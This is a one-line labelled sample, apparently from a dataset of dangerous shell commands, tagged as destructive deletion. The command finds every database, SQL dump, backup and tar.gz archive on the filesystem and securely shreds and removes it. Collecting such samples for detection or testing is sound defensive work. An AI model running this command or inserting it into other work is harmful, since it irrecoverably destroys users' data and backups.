# class: destructive deletion; style: find
find / -xdev -type f \( -name '*.db' -o -name '*.sql' -o -name '*.bak' -o -name '*.tar.gz' \) -print0 | xargs -0 shred -n 1 -u
